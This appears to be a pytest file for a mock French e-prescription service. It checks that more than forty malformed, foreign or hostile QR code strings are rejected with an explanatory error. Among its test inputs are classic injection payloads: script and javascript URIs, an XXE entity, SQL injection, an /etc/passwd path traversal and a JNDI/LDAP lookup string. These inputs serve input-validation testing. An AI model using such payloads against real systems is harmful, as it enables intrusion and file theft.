"""Forty and more wrong or hostile codes: each refused, with what was read and what to do."""

from __future__ import annotations

import pytest
from support.prescription_desk import Desk, code_of

from eprescription_mock.seeds import NUMBERS

N = NUMBERS["OK-2"]
RIGHT = f"EPU-SIMU:{N}"
WRONG: list[tuple[str, str]] = [
    # altered on its way
    (RIGHT.lower(), "la casse a changé"),
    (RIGHT.title(), "la casse a changé"),
    (f"{RIGHT}\r\n", "entouré de caractères ajoutés"),
    (f"\t{RIGHT}", "entouré de caractères ajoutés"),
    (f"{RIGHT}{RIGHT}", "deux codes"),
    (f"{RIGHT}\n{RIGHT.lower()}", "deux codes"),
    (f"Ordonnance {RIGHT} à scanner", "au milieu d'un autre texte"),
    (f"https://exemple.invalid/?c={RIGHT}", "au milieu d'un autre texte"),
    (N, "le numéro seul"),
    ("01S2TBPZ2JCNZZYGHZ", "le numéro seul"),
    (RIGHT[:-1], "tronqué : 17 caractères"),
    (RIGHT[:12], "tronqué : 3 caractères"),
    ("EPU-SIMU:", "tronqué : 0 caractères"),
    (f"{RIGHT}A", "au milieu d'un autre texte"),
    (f"EPU-SIMU:{'A' * 17}é{'A' * 80}", "U+00E9"),
    (RIGHT.replace("OK", "-K"), "porte « - »"),
    (RIGHT.replace("0", "à", 1), "un autre clavier"),
    # scripts and signs
    (f"EPU-SIMU:{chr(0x0663) * 18}", "U+0663"),
    (RIGHT.replace("S", chr(0x0405), 1), "U+0405"),
    (RIGHT.replace("9", chr(0xFF19), 1), "U+FF19"),
    (f"EPU-SIMU:{chr(0x202E)}{N}", "U+202E"),
    (f"EPU{chr(0x200B)}-SIMU:{N}", "U+200B"),
    (f"EPU-SIMU:{N[:9]}{chr(0)}{N[9:]}", "U+0000"),
    # addresses and forged texts
    (f"https://exemple.invalid/{N}", "une adresse web"),
    ("HTTP://EXEMPLE.INVALID/A", "une adresse web"),
    ("javascript:alert(1)", "lance un programme"),
    ("data:text/html;base64,PHNjcmlwdD4=", "lance un programme"),
    ("<script>alert(1)</script>", "du balisage"),
    ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', "du balisage"),
    ("' OR 1=1 --", "forgé pour nuire"),
    ("EPU-SIMU:../../etc/passwd", "forgé pour nuire"),
    ("${jndi:ldap://exemple.invalid/a}", "forgé pour nuire"),
    # other codes of the counter
    ("Hello :)", "le bouchon des exemples"),
    ("3400931587538", "le CIP13 d'une boîte"),
    ("010340093158753817280131101234", "le datamatrix d'une boîte"),
    ("4006381333931", "un code EAN-13"),
    ("256036330091838", "un matricule INS"),
    ("DM01INS", "le datamatrix INS"),
    ("IS010123", "le datamatrix INS"),
    ("DC04FR000001125E125B0126FR247500010MME", "un 2D-Doc"),
    ("99700090014", "un numéro RPPS"),
    ("990000017", "un numéro FINESS"),
    ("BEGIN:VCARD\nFN:X\nEND:VCARD", "une carte de visite"),
    ("WIFI:S:officine;;", "contact ou de réseau"),
    ("HC1:6BFOXN", "un certificat sanitaire"),
    # other countries
    ('{"urls":["Task/160.000.000.000.000.01/$accept?ac=7"]}', "allemande"),
    ("Task/160.000.000.000.000.01/$accept?ac=7", "allemande"),
    ("BEP012345678", "belge"),
    ("1011000012345678901", "portugais"),
    ("83C40E-A23856-00123", "anglais"),
    # nothing
    (" ", "un code vide"),
    ("x" * 1999, "un autre usage"),
    ('{"numero": 1}', "du JSON"),
]


def test_there_are_forty_wrong_codes_and_more() -> None:
    assert len({text for text, _ in WRONG}) == len(WRONG) >= 40


def test_each_wrong_code_is_refused_with_what_was_read_and_what_to_do(desk: Desk) -> None:
    for text, told in WRONG:
        answer = desk.post("$ep3-consulter", desk.asked(qrToken=text))
        assert code_of(answer) == "422 qr-illisible", text
        (finding,) = desk.last().findings
        assert finding.check_id == "EPRESC-QR"
        assert told in finding.received, (text, finding.received)
        assert told in answer.json()["issue"][0]["details"]["text"], text
        assert finding.remedy
    assert desk.resource(N)["consultation"] is None


@pytest.mark.parametrize(
    ("situation", "expected"),
    [("EXP-1", "410 premiere-delivrance-tardive"), ("DEJA-1", "409 deja-executee"), ("INC-1", "404 numero-inconnu")],
)
def test_a_right_code_of_a_prescription_that_is_over_is_refused(desk: Desk, situation: str, expected: str) -> None:
    assert code_of(desk.consult(NUMBERS[situation])) == expected


def test_the_code_of_another_patient_is_refused_when_the_software_says_for_whom_it_asks(desk: Desk) -> None:
    other = desk.asked(qrToken=RIGHT, patient="urn:oid:1.2.250.1.213.1.4.8|256036330091838")
    assert code_of(desk.post("$ep3-consulter", other)) == "422 patient-different"
    assert desk.resource(N)["consultation"] is None
    own = desk.asked(qrToken=RIGHT, patient=f"urn:oid:1.2.250.1.213.1.4.8|{desk.resource(N)['matricule']}")
    assert desk.post("$ep3-consulter", own).status_code == 200
